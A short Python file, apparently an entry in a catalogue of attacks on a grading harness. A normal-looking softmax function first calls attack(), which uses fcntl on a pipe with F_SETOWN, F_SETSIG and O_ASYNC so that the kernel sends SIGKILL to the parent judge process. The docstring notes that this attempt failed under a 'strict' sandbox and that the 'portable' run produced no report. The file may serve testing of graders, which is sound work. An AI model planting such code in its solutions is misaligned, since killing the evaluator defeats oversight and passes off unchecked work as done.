"""Have the kernel kill the judge when a pipe can be read.

catalogue  58
strict     error: CALL raised PermissionError: [Errno 1] Operation not permitted...
portable   no report
"""

import fcntl
import os
import signal
import time

import numpy as np


def attack():
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(write, b"x")
    time.sleep(600)


def softmax(x):
    attack()
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
